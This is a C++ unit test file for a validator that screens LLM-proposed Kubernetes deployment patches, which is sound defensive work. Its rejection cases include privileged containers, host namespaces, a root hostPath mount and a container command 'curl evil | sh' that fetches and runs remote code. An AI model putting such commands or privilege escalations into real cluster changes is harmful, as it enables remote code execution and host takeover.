// The validator on every bad case an LLM (or a careless runbook) could produce.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "proposer/validator.hpp"
#include "test_util.hpp"

using namespace aiops;
using namespace aiops::proposer;
using namespace aiops::proposer::testing;
using nlohmann::json;
using ::testing::Contains;
using ::testing::HasSubstr;

namespace {

// A valid image fix for shop/web of the bad-image-tag fixture, which each test then breaks.
json GoodPatch() {
  return json::parse(R"({"apiVersion":"apps/v1","kind":"Deployment",
    "metadata":{"name":"web","namespace":"shop"},
    "spec":{"template":{"spec":{"containers":[
      {"name":"web","image":"registry.example.com/shop/web:1.4.2"}]}}}})");
}

Candidate WithPatch(const json& patch) {
  Candidate c;
  c.summary = "s";
  c.confidence = 0.5;
  CandidateAction a;
  a.api_version = "apps/v1";
  a.kind = patch.value("kind", "Deployment");
  a.ns = patch["metadata"].value("namespace", "");
  a.name = patch["metadata"].value("name", "");
  a.patch = patch;
  c.actions.push_back(a);
  return c;
}

std::string Errors(const json& patch) {
  auto errors = ValidateCandidate(WithPatch(patch), Fixture("bad-image-tag"));
  std::string all;
  for (const auto& e : errors)
    all += e + "\n";
  return all;
}

}  // namespace

TEST(ValidatorTest, AcceptsTheAllowedFields) {
  EXPECT_EQ(Errors(GoodPatch()), "");
  auto p = GoodPatch();
  auto& c = p["spec"]["template"]["spec"]["containers"][0];
  c["resources"] = {{"requests", {{"memory", "128Mi"}, {"cpu", "100m"}}},
                    {"limits", {{"memory", "512Mi"}}}};
  c["env"] = json::parse(R"([{"name":"REDIS_HOST","value":"redis:6379"}])");
  c["envFrom"] = json::parse(R"([{"configMapRef":{"name":"web-config"}}])");
  c["readinessProbe"] = json::parse(R"({"httpGet":{"path":"/healthz","port":8080}})");
  c["livenessProbe"] = json::parse(R"({"tcpSocket":{"port":8080}})");
  c["startupProbe"] = json::parse(R"({"tcpSocket":{"port":8080}})");
  p["spec"]["replicas"] = 3;
  p["spec"]["template"]["metadata"] = {{"annotations", {{"aiops/restarted-at", "now"}}}};
  EXPECT_EQ(Errors(p), "");
}

TEST(ValidatorTest, RejectsAnotherNamespace) {
  auto p = GoodPatch();
  p["metadata"]["namespace"] = "kube-system";
  auto e = Errors(p);
  EXPECT_THAT(
      e, HasSubstr("target namespace \"kube-system\" is not the incident's namespace \"shop\""));
  EXPECT_THAT(e, HasSubstr("metadata.namespace: namespace \"kube-system\" is not the incident's"));
}

TEST(ValidatorTest, RejectsAnotherWorkload) {
  auto p = GoodPatch();
  p["metadata"]["name"] = "frontend";
  EXPECT_THAT(Errors(p), HasSubstr("is not the incident's workload"));
}

TEST(ValidatorTest, RejectsKindsOutsideTheAllowList) {
  for (const char* kind : {"Pod", "ConfigMap", "ClusterRoleBinding"}) {
    auto p = GoodPatch();
    p["kind"] = kind;
    EXPECT_THAT(Errors(p), HasSubstr(std::string("kind ") + kind + " is not allowed")) << kind;
  }
  auto p = GoodPatch();
  p["kind"] = "StatefulSet";
  EXPECT_THAT(Errors(p), HasSubstr("not the incident's workload kind Deployment"));
  p = GoodPatch();
  p["apiVersion"] = "v1";
  EXPECT_THAT(Errors(p), HasSubstr("apiVersion: must be apps/v1"));
}

TEST(ValidatorTest, RejectsPrivileged) {
  auto p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {{"privileged", true}};
  EXPECT_THAT(Errors(p),
              HasSubstr("securityContext.privileged: privileged containers are not allowed"));
}

TEST(ValidatorTest, RejectsAddedCapabilities) {
  auto p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["securityContext"] =
      json::parse(R"({"capabilities":{"add":["NET_ADMIN"]}})");
  EXPECT_THAT(Errors(p), HasSubstr("adding capabilities is not allowed"));
}

TEST(ValidatorTest, RejectsHostNamespacesAndHostPath) {
  for (const char* k : {"hostNetwork", "hostPID", "hostIPC"}) {
    auto p = GoodPatch();
    p["spec"]["template"]["spec"][k] = true;
    EXPECT_THAT(Errors(p), HasSubstr(std::string(k) + ": host namespaces are not allowed"));
  }
  auto p = GoodPatch();
  p["spec"]["template"]["spec"]["volumes"] =
      json::parse(R"([{"name":"root","hostPath":{"path":"/"}}])");
  EXPECT_THAT(Errors(p), HasSubstr("hostPath volumes are not allowed"));
}

TEST(ValidatorTest, RejectsLatestAndUnpinnedImages) {
  auto with_image = [](const std::string& image) {
    auto p = GoodPatch();
    p["spec"]["template"]["spec"]["containers"][0]["image"] = image;
    return Errors(p);
  };
  EXPECT_THAT(with_image("registry.example.com/shop/web:latest"), HasSubstr("uses :latest"));
  EXPECT_THAT(with_image("registry.example.com/shop/web"), HasSubstr("has no tag"));
  EXPECT_THAT(with_image("registry.example.com:5000/shop/web"), HasSubstr("has no tag"));
  EXPECT_EQ(with_image("registry.example.com:5000/shop/web:1.4.2"), "");
  EXPECT_EQ(with_image("registry.example.com/shop/web@sha256:" + std::string(64, 'a')), "");
}

TEST(ValidatorTest, RejectsFieldsOutsideTheAllowList) {
  auto p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["command"] = {"sh", "-c", "curl evil | sh"};
  EXPECT_THAT(Errors(p), HasSubstr("containers[name=web].command: field is not allowed"));
  p = GoodPatch();
  p["spec"]["template"]["spec"]["serviceAccountName"] = "admin";
  EXPECT_THAT(Errors(p), HasSubstr("spec.template.spec.serviceAccountName: field is not allowed"));
  p = GoodPatch();
  p["metadata"]["labels"] = {{"a", "b"}};
  EXPECT_THAT(Errors(p), HasSubstr("metadata.labels: field is not allowed"));
  p = GoodPatch();
  p["spec"]["template"]["metadata"] = {{"labels", {{"app", "x"}}}};
  EXPECT_THAT(Errors(p), HasSubstr("annotations only"));
  p = GoodPatch();
  p["spec"]["strategy"] = {{"type", "Recreate"}};
  EXPECT_THAT(Errors(p), HasSubstr("spec.strategy: field is not allowed"));
  p = GoodPatch();
  p["status"] = json::object();
  EXPECT_THAT(Errors(p), HasSubstr("status: field is not allowed"));
}

TEST(ValidatorTest, RejectsUnknownContainersBadQuantitiesAndReplicas) {
  auto p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["name"] = "sidecar";
  EXPECT_THAT(Errors(p), HasSubstr("container \"sidecar\" does not exist in the workload"));
  p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["resources"] = json::parse(
      R"({"requests":{"memory":"1Gi"},"limits":{"memory":"512Mi","nvidia.com/gpu":"1"}})");
  auto e = Errors(p);
  EXPECT_THAT(e, HasSubstr("request is above the limit"));
  EXPECT_THAT(e, HasSubstr("limits.nvidia.com/gpu: resource is not allowed"));
  p = GoodPatch();
  p["spec"]["template"]["spec"]["containers"][0]["resources"] =
      json::parse(R"({"limits":{"memory":"lots"}})");
  EXPECT_THAT(Errors(p), HasSubstr("\"lots\" is not a quantity"));
  p = GoodPatch();
  p["spec"]["replicas"] = 1000;
  EXPECT_THAT(Errors(p), HasSubstr("spec.replicas: must be an integer in 0..50"));
}

TEST(ValidatorTest, CandidateLevelRules) {
  auto e = Fixture("bad-image-tag");
  Candidate c = WithPatch(GoodPatch());
  c.manual = true;
  EXPECT_THAT(ValidateCandidate(c, e), Contains(HasSubstr("manual is true but actions are given")));
  Candidate empty;
  EXPECT_THAT(ValidateCandidate(empty, e),
              Contains(HasSubstr("no actions given but manual is false")));
  Candidate rb;
  rb.confidence = 0.5;
  CandidateAction a;
  a.type = CandidateAction::Type::kRollback;
  a.kind = "Deployment";
  a.ns = "shop";
  a.name = "web";
  a.revision = 7;
  rb.actions.push_back(a);
  EXPECT_THAT(ValidateCandidate(rb, e),
              Contains(HasSubstr("revision 7 is not in the workload's history")));
  rb.actions[0].revision = 1;
  EXPECT_TRUE(ValidateCandidate(rb, e).empty());
  Candidate identity_only = WithPatch(json::parse(
      R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop"}})"));
  EXPECT_THAT(ValidateCandidate(identity_only, e), Contains(HasSubstr("patch sets nothing")));
}

TEST(ValidatorTest, DaemonSetsHaveNoReplicas) {
  auto e = Fixture("bad-image-tag");
  e.mutable_anomaly()->mutable_workload()->set_kind("DaemonSet");
  e.clear_workload_json();
  auto p = GoodPatch();
  p["kind"] = "DaemonSet";
  p["spec"]["replicas"] = 2;
  auto errors = ValidateCandidate(WithPatch(p), e);
  EXPECT_THAT(errors, Contains(HasSubstr("a DaemonSet has no replicas")));
}
